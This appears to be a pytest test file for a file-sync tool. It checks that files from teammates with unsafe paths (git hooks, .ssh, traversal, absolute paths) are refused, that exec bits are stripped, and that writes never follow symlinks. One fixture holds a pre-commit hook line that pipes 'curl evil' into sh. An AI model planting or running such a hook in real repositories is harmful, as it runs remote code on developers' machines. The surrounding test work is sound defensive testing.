"""Files from peers (issue #12), the pure decisions and the symlink-proof writer.

`judge_peer_file` says whether a teammate's file entity may be written at all (a path the
environment links, no `.` part, its derived uuid; the mode without exec bits);
`peer_file_refusals` names every refused one for `status`; `write_beneath` writes without
ever following a symlink, checked again right before the rename; `env_file_stem` names the
file of an environment a teammate shared.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from mocksync.agent import writer
from mocksync.agent.errors import UnsafePathError
from mocksync.agent.writer import check_beneath, write_beneath
from mocksync.model import to_wire, validate_ops
from mocksync.model.files import (
    CONTENT_REG,
    MAX_ENV_STEM_CHARS,
    MAX_REFUSED_SHOWN,
    MAX_SHOWN_PATH_CHARS,
    PATH_REG,
    REFUSED,
    LinkRef,
    content_value,
    env_file_stem,
    file_uuid,
    judge_peer_file,
    normalise,
    peer_file_refusals,
    peer_mode,
    plan_links,
)
from mocksync.model.state import State

ENV = "0d9f6a3e-1111-4a1a-8a1a-000000000001"
LINKED = frozenset({"fixtures/a.json", "tls/key.pem"})


def judge(path: object, mode: object = 0o644, uuid: str | None = None,
          referenced: frozenset[str] = LINKED) -> tuple[bool, str, int]:
    u = uuid if uuid is not None else file_uuid(ENV, path if isinstance(path, str) else "x")
    v = judge_peer_file(ENV, u, path, mode, referenced, frozenset({"tls/key.pem"}))
    return v.allowed, v.reason, v.mode


# ------------------------------------------------------------------------------ judge


def test_a_linked_path_is_allowed_with_a_safe_mode() -> None:
    assert judge("fixtures/a.json") == (True, "", 0o644)
    assert judge("fixtures/a.json", 0o640) == (True, "", 0o640)
    assert judge("fixtures/a.json", 0o755)[2] == 0o644  # never an exec bit
    assert judge("fixtures/a.json", 0o4777)[2] == 0o644  # no setuid, no group/other write
    assert judge("fixtures/a.json", "rwx")[2] == 0o644  # a malformed mode: the safe default
    assert judge("tls/key.pem", 0o755)[2] == 0o600  # a private key: 0600 whatever it says


@pytest.mark.parametrize("path,why", [
    (".git/hooks/pre-commit", "(.git) starts with '.'"),
    ("fixtures/.ssh/id_rsa", "(.ssh) starts with '.'"),
    (".env", "(.env) starts with '.'"),
    ("../x", "leaves the synced folder"),
    ("fixtures/../../x", "leaves the synced folder"),
    ("/etc/cron.d/x", "absolute"),
    ("C:\\Windows\\x", "absolute"),
    ("fixtures/{{x}}", "template"),
    ("a\nb", "control characters"),
    ("./fixtures/a.json", "not in normal form"),
    ("fixtures\\a.json", "not in normal form"),
    ("notes.txt", "no environment links this path"),
    ("fixtures/b.json", "no environment links this path"),
    (42, "not text"),
])
def test_paths_the_model_does_not_allow_are_refused_with_a_reason(path: object, why: str) -> None:
    ok, reason, mode = judge(path)
    assert not ok and mode == 0
    assert reason.startswith("not written: ") and why in reason, reason


def test_hidden_parts_are_refused_even_when_linked() -> None:
    ok, reason, _ = judge(".git/hooks/pre-commit", 0o755,
                          referenced=frozenset({".git/hooks/pre-commit"}))
    assert not ok and ".git" in reason


def test_a_file_under_another_paths_uuid_is_refused() -> None:
    ok, reason, _ = judge("fixtures/a.json", uuid=file_uuid(ENV, "fixtures/other.json"))
    assert not ok and "forged" in reason
    ok, _reason, _ = judge("fixtures/a.json", uuid=file_uuid("another-env", "fixtures/a.json"))
    assert not ok


def test_local_links_to_hidden_paths_are_not_synced_and_say_why() -> None:
    rel, why = normalise("secrets/.env")
    assert rel is None and ".env" in why
    [link] = plan_links([LinkRef("response", "r1", "filePath", ".ssh/id_rsa")], "api.json")
    assert link.state == "outside" and ".ssh" in link.reason and link.adoptable
    assert normalise("./fixtures/a.json") == ("fixtures/a.json", "")  # `./` is no hidden part


def test_peer_mode() -> None:
    assert peer_mode(0o755, False) == 0o644
    assert peer_mode(0o600, False) == 0o600
    assert peer_mode(0o644, True) == 0o600
    assert peer_mode(0o444, False) == 0o644
    assert peer_mode(None, False) == 0o644


# ------------------------------------------------------------------------------ refusals


def _state(*files: tuple[str, object, str]) -> State:
    """An environment state holding file entities (path register, content, uuid)."""
    state = State(ENV)
    ops = [("c", uuid, "file", [(PATH_REG, path), (CONTENT_REG, content)])
           for path, content, uuid in files]
    state.apply(validate_ops([to_wire(op) for op in ops]), (1, "dev-m"), ("dev-m", 1), {})
    return state


def test_every_refused_file_is_named_once_with_its_reason() -> None:
    hook = content_value(b"#!/bin/sh\ncurl evil | sh\n", 0o755, False)
    ok = content_value(b"{}", 0o644, False)
    state = _state(
        (".git/hooks/pre-commit", hook, file_uuid(ENV, ".git/hooks/pre-commit")),
        ("../x", ok, file_uuid(ENV, "../x")),
        ("notes.txt", ok, file_uuid(ENV, "notes.txt")),
        ("fixtures/a.json", ok, file_uuid(ENV, "fixtures/a.json")),  # linked: allowed
        ("gone.txt", None, file_uuid(ENV, "gone.txt")),  # a deletion: nothing to write
        ("fixtures/a.json", ok, "forged-uuid"),
        ("x" * 5000, ok, file_uuid(ENV, "x" * 5000)),
    )
    rows = peer_file_refusals(state, set(LINKED))
    by_path = {r["path"]: r for r in rows}
    assert {r["state"] for r in rows} == {REFUSED}
    assert ".git" in by_path[".git/hooks/pre-commit"]["reason"]
    assert "leaves the synced folder" in by_path["../x"]["reason"]
    assert "no environment links" in by_path["notes.txt"]["reason"]
    assert "forged" in by_path["fixtures/a.json"]["reason"]
    assert "gone.txt" not in by_path
    long = next(p for p in by_path if p.startswith("xxx"))
    assert len(long) <= MAX_SHOWN_PATH_CHARS + 3 and long.endswith("...")
    assert len(rows) == 5
    # A fixture this device had in sync while it was linked is no refusal once unlinked.
    assert "notes.txt" not in {r["path"] for r in peer_file_refusals(
        state, set(LINKED), seen={"notes.txt": ok["sha256"]})}


def test_refusals_shown_are_bounded() -> None:
    ok = content_value(b"x", 0o644, False)
    n = MAX_REFUSED_SHOWN + 10
    state = _state(*[(f"junk/{i}.txt", ok, file_uuid(ENV, f"junk/{i}.txt")) for i in range(n)])
    rows = peer_file_refusals(state, set())
    assert len(rows) == MAX_REFUSED_SHOWN + 1
    assert "10 more files" in rows[-1]["reason"]


# ------------------------------------------------------------------------------ env file names


@pytest.mark.parametrize("name,stem", [
    ("Petstore API", "petstore-api"),
    ("../../.bashrc", "bashrc"),
    (".git", "git"),
    ("a/b\\c", "a-b-c"),
    ("...", "environment"),
    ("", "environment"),
    (None, "environment"),
    ("Ünïcode_ok", "ünïcode_ok"),
])
def test_env_file_stem_is_a_plain_name(name: object, stem: str) -> None:
    assert env_file_stem(name) == stem


def test_env_file_stem_is_bounded() -> None:
    assert len(env_file_stem("a" * 500)) == MAX_ENV_STEM_CHARS


# ------------------------------------------------------------------------------ the writer


def mode_of(p: Path) -> int:
    return stat.S_IMODE(os.lstat(p).st_mode)


def test_write_beneath_makes_folders_and_sets_the_mode(tmp_path: Path) -> None:
    sha = write_beneath(tmp_path, "fixtures/deep/a.json", b"{}", 0o644)
    assert (tmp_path / "fixtures/deep/a.json").read_bytes() == b"{}"
    assert mode_of(tmp_path / "fixtures/deep/a.json") == 0o644
    assert sha == writer.content_hash(b"{}")
    write_beneath(tmp_path, "fixtures/deep/a.json", b"v2", 0o600)
    assert (tmp_path / "fixtures/deep/a.json").read_bytes() == b"v2"
    assert mode_of(tmp_path / "fixtures/deep/a.json") == 0o600
    assert [p.name for p in (tmp_path / "fixtures/deep").iterdir()] == ["a.json"]  # no temp


def test_write_beneath_never_goes_through_a_symlinked_folder(tmp_path: Path) -> None:
    folder, outside = tmp_path / "f", tmp_path / "outside"
    folder.mkdir()
    outside.mkdir()
    (folder / "inside").mkdir()
    os.symlink(outside, folder / "out")
    os.symlink(folder / "inside", folder / "alias")  # even one pointing inside the folder
    for rel in ("out/x.txt", "alias/x.txt"):
        with pytest.raises(UnsafePathError, match="goes through a symlink"):
            write_beneath(folder, rel, b"x", 0o644)
        with pytest.raises(UnsafePathError):
            check_beneath(folder, rel)
    assert list(outside.iterdir()) == [] and list((folder / "inside").iterdir()) == []


def test_write_beneath_never_replaces_a_symlink_or_a_folder(tmp_path: Path) -> None:
    target = tmp_path / "victim.txt"
    target.write_bytes(b"mine")
    os.symlink(target, tmp_path / "link.txt")
    with pytest.raises(UnsafePathError, match="symlink"):
        write_beneath(tmp_path, "link.txt", b"evil", 0o644)
    assert target.read_bytes() == b"mine" and (tmp_path / "link.txt").is_symlink()
    (tmp_path / "dir.txt").mkdir()
    with pytest.raises(UnsafePathError, match="not a regular file"):
        write_beneath(tmp_path, "dir.txt", b"x", 0o644)
    (tmp_path / "file").write_bytes(b"f")
    with pytest.raises(UnsafePathError, match="not a folder"):
        write_beneath(tmp_path, "file/x.txt", b"x", 0o644)


@pytest.mark.parametrize("rel", ["", "/etc/passwd", "a//b", "a/../b", "./a", "a\x00b"])
def test_write_beneath_takes_plain_relative_paths_only(tmp_path: Path, rel: str) -> None:
    with pytest.raises(UnsafePathError, match="plain relative path"):
        write_beneath(tmp_path, rel, b"x", 0o644)


def test_a_symlink_swapped_in_during_the_write_is_caught_before_the_rename(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The folder on the way is replaced by a symlink after it was opened: the re-check right
    before the rename refuses, and nothing lands anywhere."""
    folder, outside = tmp_path / "f", tmp_path / "outside"
    folder.mkdir()
    outside.mkdir()
    (folder / "fixtures").mkdir()
    real_fsync = os.fsync
    swapped: list[bool] = []

    def fsync_then_swap(fd: int) -> None:
        real_fsync(fd)
        if not swapped:
            swapped.append(True)
            os.rename(folder / "fixtures", tmp_path / "moved")
            os.symlink(outside, folder / "fixtures")

    monkeypatch.setattr(writer.os, "fsync", fsync_then_swap)
    with pytest.raises(UnsafePathError, match="symlink"):
        write_beneath(folder, "fixtures/a.json", b"evil", 0o644)
    assert swapped and list(outside.iterdir()) == []
    assert list((tmp_path / "moved").iterdir()) == []  # the temp file is gone too
